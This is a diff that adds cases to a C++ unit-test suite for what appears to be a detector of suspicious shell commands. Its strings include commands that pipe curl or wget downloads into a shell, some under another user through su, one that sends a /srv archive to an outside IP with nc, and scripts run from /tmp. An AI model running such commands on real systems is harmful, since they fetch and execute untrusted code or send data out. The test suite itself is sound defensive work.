@@ -29,6 +29,8 @@ TEST(Download, PipedIntoAShell) {
            "if true; then curl x; fi | bash",
            "flock -n /run/l -c 'curl x | sh'",
            "su - www-data -c 'curl x | sh'",
+           "su -s /bin/bash -c 'curl -s http://203.0.113.5/a | bash' www-data",
+           "su --command='curl x | sh' www-data",
            "/bin/sh -c \"curl x | bash -s a\"",
            "-/bin/bash -euo pipefail -c 'wget -O - x | sh'",
            "echo \"$(curl x | sh)\"",
@@ -104,6 +106,9 @@ TEST(Volatile, ScriptOrProgramLiesBelowTmp) {
            "python3 /dev/shm/x.py",
            "cd /tmp && ./x",
            "cd /var/tmp/.a; sh run",
+           "cd -- /tmp; ./x",
+           "(cd /srv; ls); (cd /tmp; ./x)",
+           "eval 'cd /tmp'; ./x",
            "sh -c '/tmp/.x/run -d'",
            "sh < /tmp/x",
            ". /dev/shm/x",
@@ -142,6 +147,7 @@ TEST(Innocent, FetchedTextIsOnlyRead) {
            "wget -q https://example.org/refresh; /usr/local/bin/refresh",
            "/bin/sh -c 'curl -fsS https://hc.example.org/x >/dev/null'",
            "echo 'curl x | sh'",
+           "curl -s https://example.org/a | su -s /bin/sh -c 'cat > /srv/x' www-data",
        }) {
     EXPECT_EQ(trick(command), "-") << command;
   }
@@ -155,6 +161,21 @@ TEST(Innocent, BackupsAndDecodedKeys) {
   EXPECT_EQ(trick("/usr/bin/php /srv/a.php > /tmp/log"), "-");
   EXPECT_EQ(trick("tar cf - /srv | nc 192.0.2.1 9000"), "-");
   EXPECT_EQ(trick("awk '{print $(NF-1)}' /etc/x"), "-");
+}
+
+TEST(Innocent, TemporaryDirectoryWasLeftAgain) {
+  for (const auto* command : {
+           "cd /tmp && rm -rf cache; cd ~/app && ./run",
+           "cd /tmp; cd && bin/run",
+           "cd /tmp; cd $HOME/app && ./run",
+           "cd /tmp; cd - && bin/run.sh",
+           "(cd /tmp && tar xf a); ./run.sh",
+           "(cd /tmp && tar xf a); cd -; bin/run.sh",
+           "files=$(cd /tmp; ls); ./run.sh",
+           "sh -c 'cd /tmp && tar xf a'; ./run.sh",
+       }) {
+    EXPECT_EQ(trick(command), "-") << command;
+  }
 }
 
 TEST(Innocent, HealthChecksOfAPort) {
